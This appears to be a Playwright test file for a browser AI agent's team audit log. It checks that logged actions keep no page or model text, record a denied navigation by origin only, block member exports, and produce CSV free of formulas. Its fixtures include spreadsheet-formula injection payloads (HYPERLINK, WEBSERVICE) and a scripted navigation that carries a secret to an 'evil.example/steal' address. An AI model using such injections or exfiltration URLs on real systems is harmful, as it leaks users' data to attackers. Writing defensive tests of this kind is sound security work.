/**
 * What a team server's audit table receives of hostile activity. A page names its button with markup and labels
 * a field with a formula; the model writes markup, a formula and a secret into the form and asks to navigate to
 * an address carrying data out. The lines reach the server (signed in to a team) without any of it: no target,
 * no value written, no destination, no conversation title, only when, where (the origin), what kind, how it was
 * approved and how it ended. A member cannot export the team's lines, in either format, nor another team's; the
 * admin's CSV starts no formula.
 */
import { serveStatic, type StaticServer } from '../harness/serve-static';
import { fakeEmbedder, startTestServer } from '../team-server/test-server';
import {
  addFakeProvider,
  assistantMessages,
  callBackground,
  expect,
  openPanel,
  sendChat,
  test,
  toolCall,
  toolCard,
} from '../e2e/fixtures';

let site: StaticServer;
const SECRET = 'IBAN GB29 NWBK 6016 1331 9268 19';
test.beforeAll(async () => {
  site = await serveStatic({
    '/shop.html': `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Shop</title></head><body><main>
<button type="button" id="pay">&lt;img src="https://evil.example/beacon.png"&gt; Pay now</button>
<form id="f" action="/done" method="post">
<label>=HYPERLINK("https://evil.example/label","open") <input name="note"></label>
<label>Name <input name="name"></label>
</form></main></body></html>`,
  });
});
test.afterAll(async () => site?.close());

test('audit lines carry no page or model text, and a member cannot export them', async ({
  context,
  extensionId,
  llm,
  extPage,
}) => {
  test.setTimeout(180_000);
  const { server, world } = await startTestServer({}, { embedder: fakeEmbedder() });
  try {
    await callBackground(extPage, 'team.setUrl', { url: server.url });
    await callBackground(extPage, 'team.signIn', { token: world.bob.token });
    await addFakeProvider(extPage, llm, 'm');
    const page = await context.newPage();
    await page.goto(`${site.url}/shop.html`);
    const panel = await openPanel(context, extensionId);
    llm.enqueue(
      toolCall('get_page_state'),
      toolCall('click', { key: 'e1' }),
      toolCall('get_form_state'),
      toolCall('fill_form', { updates: { note: '=WEBSERVICE("https://evil.example/x")', name: SECRET } }),
      toolCall('navigate', { url: `https://evil.example/steal?d=${encodeURIComponent(SECRET)}` }),
      { text: ['Done.'] },
    );
    await sendChat(panel, `Pay and send ${SECRET}`);
    await toolCard(panel, 'click').getByRole('button', { name: 'Approve' }).click();
    await toolCard(panel, 'fill_form').getByRole('button', { name: 'Approve' }).click();
    await toolCard(panel, 'navigate').getByRole('button', { name: 'Deny' }).click();
    await expect(assistantMessages(panel).last()).toHaveAttribute('data-status', 'complete');

    const rowsOf = async () =>
      (await server.ctx.db.pool.query('SELECT * FROM tabwise.audit_lines WHERE user_id = $1', [world.bob.userId]))
        .rows as Record<string, unknown>[];
    await expect.poll(async () => (await rowsOf()).length, { timeout: 30_000 }).toBe(3);
    const rows = await rowsOf();
    const text = JSON.stringify(rows);
    for (const hostile of ['beacon', 'HYPERLINK', 'WEBSERVICE', 'Pay now', 'GB29', 'steal', 'Name', '<img', '/label'])
      expect(text, hostile).not.toContain(hostile);
    expect(rows.map((r) => r.kind).sort()).toEqual(['click', 'fill', 'navigate']);
    // The denied navigation names where it would have gone by origin only: nothing of the path or query it carried.
    expect(rows.find((r) => r.kind === 'navigate')).toMatchObject({
      approval: 'card',
      outcome: 'denied',
      site: 'https://evil.example',
    });
    // The site is the origin acted on, nothing of its path or query.
    expect(new Set(rows.filter((r) => r.kind !== 'navigate').map((r) => r.site))).toEqual(
      new Set([new URL(site.url).origin]),
    );

    const range = new URLSearchParams({ from: '2000-01-01', to: '2100-01-01' });
    const get = (token: string, extra = '') =>
      fetch(`${server.url}/v1/audit/export?${range}${extra}`, { headers: { authorization: `Bearer ${token}` } });
    for (const extra of ['', '&format=csv', `&teamId=${world.red}`, `&teamId=${world.blue}`]) {
      const refused = await get(world.bob.token, extra);
      expect(refused.status, extra).toBe(403);
      expect(await refused.text()).not.toContain(world.bob.userId);
    }
    // Another team's admin cannot ask for red's lines either.
    expect((await get(world.cy.token, `&teamId=${world.red}`)).status).toBe(403);
    const csv = await (await get(world.ada.token, '&format=csv')).text();
    const lines = csv.trimEnd().split('\r\n');
    expect(lines).toHaveLength(4);
    for (const line of lines) for (const cell of line.split(',')) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv).not.toContain('GB29');
  } finally {
    await server.close();
  }
});
